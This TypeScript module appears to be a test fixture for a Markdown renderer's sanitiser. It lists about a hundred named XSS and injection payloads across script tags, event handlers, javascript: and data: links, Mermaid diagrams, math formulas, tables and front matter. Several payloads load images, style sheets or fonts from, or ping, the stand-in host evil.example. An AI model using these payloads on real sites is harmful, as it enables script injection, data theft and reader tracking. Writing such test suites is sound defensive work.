/**
 * Texts that would run a script, load something from elsewhere or break out of an attribute, if the page let
 * them. A script that runs calls `breached` with the attack's name; what leaves goes to evil.example.
 */
export interface Attack {
  readonly name: string;
  /** As a writer of Markdown would try it. */
  readonly markdown: string;
}

const call = (name: string): string => `breached('${name}')`;

const inText = (name: string, text: (call: string) => string): Attack => ({
  name,
  markdown: text(call(name)),
});

const scripts: Attack[] = [
  inText('plain script', (run) => `<script>${run}</script>`),
  inText('script in capitals', (run) => `<SCRIPT>${run}</SCRIPT>`),
  inText('script split by a script', (run) => `<scr<script>ipt>${run}</scr</script>ipt>`),
  inText('script from elsewhere', () => '<script src="https://evil.example/a.js"></script>'),
  inText('module script', (run) => `<script type="module">${run}</script>`),
  inText('script with a slash for a space', (run) => `<script/x>${run}</script/x>`),
  inText('unclosed script', (run) => `<script>${run}//`),
  inText('script after a comment', (run) => `<!--><script>${run}</script>-->`),
  inText('script closing the title', (run) => `# A title </title><script>${run}</script>`),
  inText('script closing a textarea', (run) => `<textarea></textarea><script>${run}</script>`),
  inText('script in CDATA', (run) => `<![CDATA[<script>${run}</script>]]>`),
  inText(
    'script in noscript',
    (run) => `<noscript><p title="</noscript><script>${run}</script>"></noscript>`,
  ),
  inText('script by entities', (run) => `&lt;script&gt;${run}&lt;/script&gt;`),
  inText('script by entities twice', (run) => `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`),
  inText('script behind a null', (run) => `<scr&#0;ipt>${run}</scr&#0;ipt>`),
];

const handlers: Attack[] = [
  inText('picture error', (run) => `<img src="x" onerror="${run}">`),
  inText('picture error without quotes', (run) => `<img src=x onerror=${run}>`),
  inText('picture error behind a slash', (run) => `<img/src="x"/onerror="${run}">`),
  inText('drawing load', (run) => `<svg onload="${run}"></svg>`),
  inText('drawing animation', (run) => `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`),
  inText(
    'drawing link',
    (run) => `<svg><a xlink:href="javascript:${run}"><text y="9">press</text></a></svg>`,
  ),
  inText(
    'drawing with a page in it',
    (run) => `<svg><foreignObject><img src="x" onerror="${run}"></foreignObject></svg>`,
  ),
  inText('drawing style', (run) => `<svg><style><img src="x" onerror="${run}"></style></svg>`),
  inText('body load', (run) => `<body onload="${run}">`),
  inText('details toggle', (run) => `<details open ontoggle="${run}">text</details>`),
  inText('focus at once', (run) => `<input autofocus onfocus="${run}">`),
  inText('video source error', (run) => `<video><source onerror="${run}"></video>`),
  inText('audio error', (run) => `<audio src="x" onerror="${run}"></audio>`),
  inText('marquee start', (run) => `<marquee onstart="${run}">text</marquee>`),
  inText(
    'style animation',
    (run) => `<style>@keyframes a{}</style><p style="animation:a" onanimationstart="${run}">text</p>`,
  ),
  inText('frame document', (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`),
  inText('frame address', (run) => `<iframe src="javascript:parent.${run}"></iframe>`),
  inText('object address', (run) => `<object data="javascript:${run}"></object>`),
  inText(
    'embedded drawing',
    (run) =>
      `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${run}'/>">`,
  ),
  inText(
    'formula with a style that ends early',
    (run) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  ),
  inText(
    'formula link',
    (run) => `<math><maction actiontype="statusline" xlink:href="javascript:${run}">press</maction></math>`,
  ),
  inText('template', (run) => `<template><img src="x" onerror="${run}"></template>`),
  inText('form button', (run) => `<form><button formaction="javascript:${run}">press</button></form>`),
];

const links: Attack[] = [
  inText('script address', (run) => `[press](javascript:${run})`),
  inText('script address in mixed case', (run) => `[press](JaVaScRiPt:${run})`),
  inText('script address by entities', (run) => `[press](&#106;avascript:${run})`),
  inText('script address with a tab', (run) => `[press](<java\tscript:${run}>)`),
  inText('script address behind a control letter', (run) => `[press](<\u0001javascript:${run}>)`),
  inText('script address by reference', (run) => `[press][there]\n\n[there]: javascript:${run}`),
  inText('script address in angle brackets', (run) => `<javascript:${run}>`),
  inText('script address in HTML', (run) => `<a href="javascript:${run}">press</a>`),
  inText('old script address', (run) => `[press](vbscript:${run})`),
  inText('page in an address', (run) => `[press](data:text/html,<script>opener.${run}</script>)`),
  inText(
    'encoded page in an address',
    () => '[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  ),
  inText('address that breaks out', (run) => `[press](https://safe.example/"onmouseover="${run})`),
  inText(
    'title of a link that breaks out',
    (run) => `[press](https://safe.example '" autofocus onfocus="${run}')`,
  ),
  inText(
    'link that tells on its reader',
    () => '<a href="https://safe.example" ping="https://evil.example/ping">press</a>',
  ),
];

const pictures: Attack[] = [
  inText('picture by script', (run) => `![view](javascript:${run})`),
  inText(
    'drawing in an address',
    (run) => `![view](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>)`,
  ),
  inText('alternative text that breaks out', (run) => `![" onerror="${run}](missing.png)`),
  inText('alternative text with a tag', (run) => `![<img src=x onerror=${run}>](missing.png)`),
  inText('title of a picture that breaks out', (run) => `![view](missing.png '" onload="${run}')`),
  inText('file name that breaks out', (run) => `![view](<missing" onerror="${run}.png>)`),
  inText('picture elsewhere', () => '![view](https://evil.example/pixel.png)'),
  inText('picture elsewhere without a protocol', () => '![view](//evil.example/pixel.png)'),
  inText('picture elsewhere without encryption', () => '![view](http://evil.example/pixel.png)'),
  inText(
    'picture elsewhere in HTML',
    () => '<img src="https://evil.example/pixel.png" srcset="https://evil.example/2.png 2x">',
  ),
  inText(
    'picture in a picture element',
    () =>
      '<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/a.png"></picture>',
  ),
  inText('poster of a film', () => '<video poster="https://evil.example/poster.png"></video>'),
];

const styles: Attack[] = [
  inText('style sheet from elsewhere', () => '<style>@import url("https://evil.example/a.css");</style>'),
  inText('style sheet link', () => '<link rel="stylesheet" href="https://evil.example/a.css">'),
  inText('background from elsewhere', () => '<p style="background:url(https://evil.example/b.png)">text</p>'),
  inText(
    'font from elsewhere',
    () => '<style>@font-face{font-family:a;src:url(https://evil.example/f.woff2)}p{font-family:a}</style>',
  ),
  inText(
    'cover over everything',
    () => '<div style="position:fixed;inset:0;z-index:9999;background:red"></div>',
  ),
  inText(
    'name looked up ahead',
    () =>
      '<link rel="dns-prefetch" href="//evil.example"><link rel="preload" as="image" href="https://evil.example/p.png">',
  ),
  inText('page moved elsewhere', () => '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
  inText('base moved elsewhere', () => '<base href="https://evil.example/">'),
  inText('form to elsewhere', () => '<form action="https://evil.example/" id="f"><input name="a"></form>'),
];

const fenced = (language: string, code: string): string => `\`\`\`${language}\n${code}\n\`\`\``;

const listings: Attack[] = [
  inText('language that breaks out', (run) => fenced(`js" onload="${run}`, 'let a = 1;')),
  inText('language that is a tag', (run) => fenced(`<img/src=x/onerror=${run}>`, 'let a = 1;')),
  inText('listing with a script', (run) => fenced('html', `</code></pre><script>${run}</script>`)),
  inText('listing without a language', (run) => fenced('', `</span><img src=x onerror=${run}>`)),
  inText('file name of a listing', (run) => fenced(`js title="<img src=x onerror=${run}>"`, 'let a = 1;')),
  inText('code in a line', (run) => `Call \`<img src=x onerror=${run}>\` at once.`),
];

const diagrams: Attack[] = [
  inText('diagram that presses', (run) =>
    fenced('mermaid', `flowchart LR\n  A[press] --> B\n  click A href "javascript:${run}"`),
  ),
  inText('diagram that calls', (run) =>
    fenced('mermaid', `flowchart LR\n  A[press] --> B\n  click A call ${run}`),
  ),
  inText('diagram label with a picture', (run) =>
    fenced('mermaid', `flowchart LR\n  A["<img src=x onerror=${run}>"] --> B`),
  ),
  inText('diagram that loosens its rules', (run) =>
    fenced(
      'mermaid',
      `%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  A["<img src=x onerror=${run}>"] --> B`,
    ),
  ),
  inText('diagram with a style sheet', () =>
    fenced(
      'mermaid',
      '%%{init: {"themeCSS": "@import url(https://evil.example/a.css); .node{background:url(https://evil.example/b.png)}"}}%%\nflowchart LR\n  A --> B',
    ),
  ),
  inText('diagram class from elsewhere', () =>
    fenced(
      'mermaid',
      'flowchart LR\n  A --> B\n  classDef bad fill:url(https://evil.example/c.png)\n  class A bad',
    ),
  ),
  inText('diagram with a picture of elsewhere', () =>
    fenced('mermaid', 'flowchart LR\n  A@{ img: "https://evil.example/d.png", label: "A" } --> B'),
  ),
  inText('diagram with settings above it', (run) =>
    fenced(
      'mermaid',
      `---\nconfig:\n  securityLevel: loose\n---\nflowchart LR\n  A["<svg onload=${run}>"] --> B`,
    ),
  ),
  inText('sequence that links', (run) =>
    fenced(
      'mermaid',
      `sequenceDiagram\n  Ann->>Bob: <img src=x onerror=${run}>\n  link Ann: press @ javascript:${run}`,
    ),
  ),
];

const formulas: Attack[] = [
  inText('formula with a link', (run) => `$$\\href{javascript:${run}}{press}$$`),
  inText('formula with an address', (run) => `$$\\url{javascript:${run}}$$`),
  inText('formula with a picture', () => '$$\\includegraphics{https://evil.example/m.png}$$'),
  inText('formula with a tag', (run) => `$$\\text{<img src=x onerror=${run}>}$$`),
  inText('formula with a class', (run) => `$$\\class{x" onclick="${run}}{a}$$`),
  inText('formula with data', (run) => `$$\\htmlData{x=y" onclick="${run}}{a}$$`),
  inText('formula with a style', () => '$$\\style{background:url(https://evil.example/s.png)}{a}$$'),
  inText('formula without an end', () => '$$\\def\\a{\\a\\a}\\a$$'),
  inText('formula in a line', (run) => `Take $\\text{</math><img src=x onerror=${run}>}$ as given.`),
];

const places: Attack[] = [
  inText('heading', (run) => `## <img src=x onerror=${run}>`),
  inText('heading that breaks out', (run) => `## A heading" onmouseover="${run}`),
  inText(
    'table cell',
    (run) => `| a | b |\n| - | - |\n| <img src=x onerror=${run}> | 1 |\n| " onload="${run} | 2 |`,
  ),
  inText(
    'chart category',
    (run) =>
      `| Market | 2025 |\n| - | -: |\n| </text><script>${run}</script> | 12 |\n| "><img src=x onerror=${run}> | 18 |\n| South | 24 |`,
  ),
  inText('quotation', (run) => `> <img src=x onerror=${run}>\n>\n> — <svg onload=${run}>`),
  inText(
    'step',
    (run) =>
      `1. **First:** <img src=x onerror=${run}>\n2. **Then:** wait for it\n3. **Last:** <svg onload=${run}>`,
  ),
  inText('task', (run) => `- [x] <img src=x onerror=${run}>\n- [ ] nothing else`),
  inText('footnote', (run) => `Text with a note.[^n]\n\n[^n]: <img src=x onerror=${run}>`),
  inText('alert', (run) => `> [!WARNING]\n> <img src=x onerror=${run}>`),
  inText('words that read backwards', (run) => `\u202Egnp.<img src=x onerror=${run}>\u202C`),
  inText('template of a script', (run) => `\${${run}} {{${run}}} <%= ${run} %>`),
];

export const attacks: readonly Attack[] = [
  ...scripts,
  ...handlers,
  ...links,
  ...pictures,
  ...styles,
  ...listings,
  ...diagrams,
  ...formulas,
  ...places,
];

/** All attacks as one document; each has a section of its own. */
/** In their order, so many in each group. */
export const grouped = (some: readonly Attack[], size: number): Attack[][] =>
  [...Array(Math.ceil(some.length / size)).keys()].map((index) =>
    some.slice(index * size, (index + 1) * size),
  );

export const attackDocument = (some: readonly Attack[]): string => {
  const run = call('front matter');
  const head = `---\ntitle: "A deck </title><script>${run}</script>"\nauthor: "<img src=x onerror=${run}>"\n---\n`;
  return `${head}\n${some.map(({ name, markdown }) => `## Attack by ${name}\n\nWhat follows is an attack on the page.\n\n${markdown}\n\nThat was it.`).join('\n\n')}\n`;
};
